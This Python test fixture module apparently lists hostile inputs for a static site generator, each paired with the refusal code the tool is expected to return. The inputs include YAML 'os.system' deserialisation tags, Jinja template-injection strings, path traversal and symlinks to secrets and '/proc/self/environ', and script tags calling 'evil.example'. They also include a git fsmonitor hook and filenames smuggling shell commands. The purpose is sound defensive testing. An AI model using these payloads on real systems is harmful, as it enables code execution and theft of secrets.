"""What a stranger may put into `claims.yml`, `claims/` and `content/`, one attack at a time.

A site is two folders below AREA; the canary's file is `elsewhere/secret.txt` below it, and one more
stands in the site's own `.git/config`. `CANARY` in an attack is the absolute path.
"""

import os
from dataclasses import dataclass
from pathlib import Path
from typing import Final

ELSEWHERE: Final = "elsewhere/secret.txt"
UP: Final = "../../elsewhere/secret.txt"
VARIABLE: Final = "SAYSO_SECRET"
PNG: Final = (
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89"
    b"\0\0\0\rIDATx\x9cc\xf8\xff\xff\xff\x7f\0\t\xfb\x03\xfd\x05CE\xca\0\0\0\0IEND\xaeB`\x82"
)


@dataclass(frozen=True)
class Link:
    """A symbolic link."""

    target: str


class Pipe:
    """A named pipe: who opens it waits for ever."""


Thing = str | bytes | Link | Pipe


@dataclass(frozen=True)
class Attack:
    """Files by name, and the code that refuses them; "" where the attack is left inert."""

    name: str
    files: dict[str, Thing]
    code: str = ""


def put(area: Path, root: Path, files: dict[str, Thing]) -> None:
    """Lay an attack's files into a folder; what stands in their way is removed."""
    secret = str(area / ELSEWHERE)
    for name, thing in files.items():
        path = Path(f"{root}/{name}")
        for each in (path, *path.parents):
            if each.is_symlink() or each.is_file():
                each.unlink()
            if each == root:
                break
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(thing, Link):
            path.symlink_to(thing.target.replace("CANARY", secret))
        elif isinstance(thing, Pipe):
            os.mkfifo(path)
        elif isinstance(thing, bytes):
            path.write_bytes(thing)
        else:
            path.write_text(thing.replace("CANARY", secret), encoding="utf-8")


def _prose(name: str, text: str, code: str = "") -> Attack:
    """A page with this text on it."""
    return Attack(name, {f"content/{name}.md": f"# A page\n\n{text}\n"}, code)


def _front(name: str, keys: str, code: str = "") -> Attack:
    return Attack(name, {f"content/{name}.md": f"---\n{keys}\n---\n# A page\n"}, code)


def _claim(name: str, fields: str, code: str = "") -> Attack:
    """A claim with these fields, or others in their place."""
    known = {
        "id": name,
        "text": "They hold it.",
        "claimant": "north-army",
        "source": "gazette-1",
        "exact": '"hold it"',
    }
    own = dict(line.split(": ", 1) for line in fields.splitlines())
    lines = [f"{key}: {value}" for key, value in {**known, **own}.items()]
    return Attack(name, {f"claims/{name}.yml": "claims:\n  - " + "\n    ".join(lines) + "\n"}, code)


def _yaml(name: str, text: str, code: str) -> Attack:
    return Attack(name, {f"claims/{name}.yml": text}, code)


def _file(name: str, path: str, thing: Thing, code: str = "") -> Attack:
    return Attack(name, {path: thing}, code)


FRONT_MATTER = (
    _front("front-template", "template: ../../.git/config", "SAY054"),
    _front("front-hide", "hide: [navigation]", "SAY054"),
    _front("front-redirect", "redirect: https://evil.example", "SAY054"),
    _front("front-unknown", "hooks: [evil.py]", "SAY054"),
    _front("front-script", 'title: "<script src=https://evil.example></script>"'),
    _front("front-jinja", "title: \"{{ config }} {% include '.git/config' %}\""),
    _front("front-environment", f"title: !ENV {VARIABLE}", "SAY007"),
    _front("front-python", "title: !!python/object/apply:os.system [env]", "SAY007"),
    _front("front-include", "title: !include ../.git/config", "SAY007"),
    _front("front-variable", f'description: "${VARIABLE} ${{{VARIABLE}}} %{VARIABLE}%"'),
)
PROSE = (
    _prose("snippet", '--8<-- ".git/config"'),
    _prose("snippet-block", f"--8<--\n.git/config\n{UP}\nCANARY\n--8<--"),
    _prose("snippet-url", '--8<-- "https://evil.example/x.md"'),
    _prose("snippet-indented", '```\n--8<-- "CANARY"\n```'),
    _prose(
        "jinja", "{{ config }} {{ environ }} {{ ''.__class__.__mro__ }} {{ cycler.__init__.__globals__.os }}"
    ),
    _prose("jinja-include", "{% include '.git/config' %} {% include 'CANARY' %} {% import 'os' as os %}"),
    _prose("macros", "{{ include_file('CANARY') }} {{ read_raw('CANARY') }} {{ now() }}"),
    _prose("markdown-include", "{! .git/config !} {!CANARY!}"),
    _prose("include-markdown", '{% include-markdown "CANARY" %} {% include "../../.git/config" %}'),
    _prose("table-reader", "{{ read_csv('CANARY') }}"),
    _prose("code-from-file", "```{.python file=CANARY}\n```\n\n::: sayso.project\n\n.. include:: CANARY"),
    _prose("code-that-runs", '```python exec="on"\nprint(open("CANARY").read())\n```'),
    _prose("attributes", "words{: onclick=alert(1) }\n\n## More {: #x src=CANARY }"),
    _prose("emoji", ":material-git: :octicons-x: :../../../../.git/config:"),
    _prose("abbreviation", "*[HTML]: CANARY\n\nHTML"),
    _prose("script", "<script>fetch('https://evil.example')</script>"),
    _prose("frame", '<iframe src="file://CANARY"></iframe><object data="CANARY">'),
    _prose("comment", "<!--#include file='.git/config' --> <?php readfile('CANARY') ?>"),
    _prose("link-file", "[x](file://CANARY)", "SAY056"),
    _prose("link-out", "[x](../../.git/config)", "SAY046"),
    _prose("link-absolute", "[x](CANARY)", "SAY046"),
    _prose("image-out", "![x](../.git/config)", "SAY046"),
    _prose("image-absolute", "![x](CANARY)", "SAY046"),
    _prose("reference-out", "[x][y]\n\n[y]: ../../.git/config", "SAY046"),
    _prose("directive-path", "[[claim:../../.git/config]]", "SAY051"),
    _prose("directive-absolute", "[[compare:CANARY]]", "SAY051"),
    _prose("directive-include", "[[include:../.git/config]]", "SAY050"),
    _prose("directive-jinja", "[[claim:{{config}}]]", "SAY051"),
    _prose("order-to-github", "::add-mask::claims\n\n##[add-mask]claims\n\n::stop-commands::x"),
)
RECORDS = (
    _claim("id-traversal", 'id: "../../evil"', "SAY025"),
    _claim("id-absolute", 'id: "/etc/evil"', "SAY025"),
    _claim("id-git", 'id: ".git"', "SAY025"),
    _claim("id-device", "id: con", "SAY025"),
    _claim("id-long", f"id: {'a' * 300}", "SAY025"),
    _claim("id-nul", 'id: "a\\0b"', "SAY002"),
    _claim("id-jinja", 'id: "{{config}}"', "SAY025"),
    _claim("id-list", "id: index", "SAY103"),
    _claim("text-jinja", "text: \"{{ config }} {% include '.git/config' %} {{ environ }}\""),
    _claim("text-snippet", "text: '--8<-- \".git/config\"'"),
    _claim("text-include", 'text: "{! .git/config !} <!--#include file=x -->"'),
    _claim("text-github", 'text: "::add-mask::x ##[add-mask]claims %0A::stop-commands::x"'),
    _claim("source-path", "source: ../../elsewhere/secret", "SAY101"),
    _claim("unknown-key", "include: ../.git/config", "SAY020"),
    _yaml("tag-python", "claims: !!python/object/apply:os.system ['env']\n", "SAY007"),
    _yaml("tag-environment", f"claims: !ENV [{VARIABLE}, x]\n", "SAY007"),
    _yaml("tag-include", "claims: !include CANARY\n", "SAY007"),
    _yaml("inherit", "INHERIT: ../mkdocs.yml\n", "SAY020"),
    _yaml("merge", "claims:\n  - <<: {a: b}\n", "SAY008"),
    _yaml("second-document", "claims: []\n---\nhooks: [evil.py]\n", "SAY009"),
    _yaml("directive", "%TAG ! tag:yaml.org,2002:python/\n---\nclaims: !name:os.system x\n", "SAY007"),
    _yaml("huge", "claims: []\n" + "# x\n" * 300_000, "SAY011"),
    Attack(
        "url-file",
        {
            "claims/url-file.yml": "sources:\n  - {id: evil, title: E, publisher: gazette, kind: article,"
            ' url: "file://CANARY", published: 2025-01-05, access: first_hand}\n'
        },
        "SAY112",
    ),
)
FILES = (
    _file("link-claims", "claims.yml", Link(".git/config"), "SAY019"),
    _file("link-page", "content/link.md", Link("CANARY"), "SAY019"),
    _file("link-yaml", "content/link.yml", Link("../.git/config"), "SAY019"),
    _file("link-image", "content/link.png", Link("../" + UP), "SAY019"),
    _file("link-folder", "content/linked", Link("../.git"), "SAY019"),
    _file("link-claims-folder", "claims", Link("../../elsewhere"), "SAY019"),
    _file("link-root", "content/root", Link("/"), "SAY019"),
    _file("link-dangling", "content/dangling.md", Link("../../nowhere.md"), "SAY019"),
    _file("link-loop", "content/loop", Link("loop"), "SAY019"),
    _file("link-up", "content/up", Link(".."), "SAY019"),
    _file("link-process", "content/process.md", Link("/proc/self/environ"), "SAY019"),
    _file("pipe", "content/pipe.md", Pipe(), "SAY019"),
    _file("program", "content/x.py", "import os; os.system('env')", "SAY019"),
    _file("page-of-html", "content/x.html", "<script>alert(1)</script>", "SAY019"),
    _file("drawing", "content/x.svg", "<svg onload='alert(1)'/>", "SAY019"),
    _file("style", "content/extra.css", "@import 'https://evil.example'", "SAY019"),
    _file("script-file", "content/extra.js", "alert(1)", "SAY019"),
    _file("template", "content/x.md.j2", "{{ config }}", "SAY019"),
    _file("image-is-html", "content/x.png", "<script>alert(1)</script>", "SAY030"),
    _file("image-is-secret", "content/y.jpg", "token = CANARY", "SAY030"),
    _file("image-is-huge", "content/z.png", PNG + b"\0" * 17 * 2**20, "SAY011"),
    _file("settings", "content/mkdocs.yml", "hooks: [evil.py]\nINHERIT: ../mkdocs.yml\n", "SAY020"),
    _file("rubric", "content/site_config/rubric.yml", "statuses: []\n", "SAY020"),
    _file("hidden", "content/.git/config", "[core]\n\tfsmonitor = touch owned\n"),
    _file("hidden-folder", "content/.sayso/evil.md", "# Evil\n"),
    _file("hidden-git", "content/.gitattributes", "* filter=evil\n"),
    _file("cname", "content/CNAME", "evil.example\n"),
    _file("redirects", "content/_redirects", "/* https://evil.example/:splat 301\n"),
    _file("headers", "content/_headers", "/*\n  Content-Security-Policy: *\n"),
    _file("makefile", "content/Makefile", "site:\n\ttouch owned\n"),
    _file("other-git", "content/git~1/config.md", "# Evil\n", "SAY504"),
    Attack("claims-is-a-folder", {"claims.yml/evil.yml": "hooks: [evil.py]\n"}, "SAY020"),
)
NAMES = tuple(
    _file(f"name-{number}", f"content/{name}.md", "# A page\n", code)
    for number, (name, code) in enumerate(
        {
            "a\n::error::told": "SAY019",
            "a\r##[add-mask]x": "SAY019",
            "::stop-commands::x": "SAY504",
            "-rf": "SAY504",
            "--root=..": "SAY504",
            "$(touch owned)": "SAY504",
            "`touch owned`": "SAY504",
            ";touch owned;": "SAY504",
            "a%0A::error::b": "SAY504",
            "\x1b[2J": "SAY019",
            "Київ": "SAY504",
            "\u202egpj": "SAY019",
            "{{ config }}": "SAY504",
            "*": "SAY504",
            "nul": "SAY019",
            "a" * 200: "SAY504",
            "a\\..\\..\\b": "SAY019",
            "a\udcff": "SAY019",
        }.items()
    )
)
PLACES = (
    _file("place-summary", "content/SUMMARY.md", "- [Evil](index.md)\n", "SAY503"),
    _file("place-deep-summary", "content/deep/SUMMARY.md", "- [Evil](../index.md)\n", "SAY503"),
    _file("place-claim", "content/claims/claim-00001.md", "# Mine\n", "SAY503"),
    _file("place-claims", "content/Claims.md", "# Mine\n", "SAY503"),
    _file("place-method", "content/method/index.md", "# Mine\n", "SAY503"),
    _file("place-search", "content/search/README.md", "# Mine\n", "SAY503"),
    _file("place-icon", "content/assets/favicon.png", PNG, "SAY503"),
    _file("place-script", "content/assets/javascripts/bundle.png", PNG, "SAY503"),
    _file("place-missing", "content/404.md", "# Mine\n", "SAY503"),
    _file("place-missing-file", "content/404.html.md", "# Mine\n", "SAY503"),
    _file("place-home", "content/index.html.md", "# Mine\n", "SAY503"),
    _file("place-sitemap", "content/sitemap.xml.md", "# Mine\n", "SAY503"),
    _file("place-robots", "content/robots.txt.md", "Disallow: /\n", "SAY503"),
    _file("place-robots-folder", "content/robots.txt/x.png", PNG, "SAY503"),
    Attack("place-twice", {"content/a.md": "# A\n", "content/a/index.md": "# B\n"}, "SAY503"),
    Attack("place-image", {"content/b.png.md": "# A\n", "content/b.png": PNG}, "SAY503"),
    Attack("place-below", {"content/c/d.md": "# A\n", "content/c/d/index.html/e.md": "# B\n"}, "SAY503"),
    _file("place-harmless", "content/sitemap.xml.png", PNG),
    _file("place-deep", "content/deep/er/page.md", "# A page of its own\n"),
)
ATTACKS: Final = FRONT_MATTER + PROSE + RECORDS + FILES + NAMES + PLACES
